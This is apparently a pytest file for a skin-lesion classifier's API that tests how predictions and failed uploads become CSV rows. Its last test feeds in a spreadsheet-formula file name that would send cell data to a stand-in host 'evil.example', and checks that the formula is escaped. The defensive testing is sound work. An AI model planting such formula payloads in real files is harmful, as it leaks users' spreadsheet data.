"""One row per image and model, as `lesion predict` and the page's CSV download write it."""

from __future__ import annotations

import csv
import io

from lesion_api.predictions import InputCheck, Prediction
from lesion_api.rows import COLUMNS, Row, to_csv
from lesion_core.labels import CLASS_CODES

PROBABILITIES = dict(zip(CLASS_CODES, [0.1, 0.0, 0.0, 0.0, 0.7, 0.2, 0.0], strict=True))
CHECK = InputCheck(
    dermoscopic=False,
    score=0.2,
    warnings=["a", "b"],
    warning_codes=["not_dermoscopic", "blurred"],
)
PREDICTION = Prediction(
    file="x.jpg",
    label="mel",
    label_name="Melanoma",
    malignant=True,
    confidence=0.7,
    probabilities=PROBABILITIES,
    model_version="m-123",
    input_check=CHECK,
)


def test_a_row_carries_the_answer_and_the_input_checks_verdict():
    record = Row.answered("dir/x.jpg", "m", PREDICTION).record()
    assert list(record) == list(COLUMNS)
    assert record["mel"] == 0.7 and record["label"] == "mel" and record["error"] is None
    assert record["dermoscopic"] is False and record["input_check_score"] == 0.2
    assert record["warning_codes"] == ["not_dermoscopic", "blurred"]


def test_a_failed_row_names_its_file_as_a_lone_upload_would_be_named():
    message = "file 3 ('x (1).jpg'): not an image, or damaged beyond reading"
    row = Row.failed("dir/x (1).jpg", "m", "m-123", "invalid_image", message, "x (1).jpg")
    assert row.error == "invalid_image: 'x (1).jpg': not an image, or damaged beyond reading"
    assert row.record()["akiec"] is None and row.record()["model_version"] == "m-123"


def test_csv_has_the_header_then_one_line_per_row_with_plain_cells():
    failed = Row("b.png", "m", "m-123", error="invalid_image: 'b.png': damaged")
    text = to_csv([Row.answered("x.jpg", "m", PREDICTION), failed])
    header, answered, refused = list(csv.reader(io.StringIO(text)))
    assert header == list(COLUMNS)
    assert answered == [
        "x.jpg", "0.1", "0.0", "0.0", "0.0", "0.7", "0.2", "0.0", "mel", "m", "m-123",
        "false", "0.2", "not_dermoscopic;blurred", "", "", "", "", "",
    ]  # fmt: skip
    assert refused[0] == "b.png" and refused[-1] == "invalid_image: 'b.png': damaged"
    assert set(refused[1:9]) == {""}
    assert text.endswith("damaged\n") and "\r" not in text


def test_a_cell_that_would_be_a_formula_in_a_spreadsheet_is_kept_text():
    from lesion_api.rows import from_spreadsheet_safe, spreadsheet_safe

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"x").jpg'
    row = Row.failed(hostile, "m", "m-1", "invalid_image", "+SUM(1)", hostile)
    (cells,) = list(csv.reader(io.StringIO(to_csv([row]))))[1:]
    assert cells[0] == "'" + hostile
    assert cells[-1].startswith("invalid_image: ")  # already text: untouched
    for start in "=+-@\t\r":
        assert spreadsheet_safe(f"{start}x") == f"'{start}x"
        assert from_spreadsheet_safe(spreadsheet_safe(f"{start}x")) == f"{start}x"
    assert spreadsheet_safe("ISIC_1.jpg") == "ISIC_1.jpg" == from_spreadsheet_safe("ISIC_1.jpg")
    assert from_spreadsheet_safe("'quoted") == "'quoted", "only what it made safe"
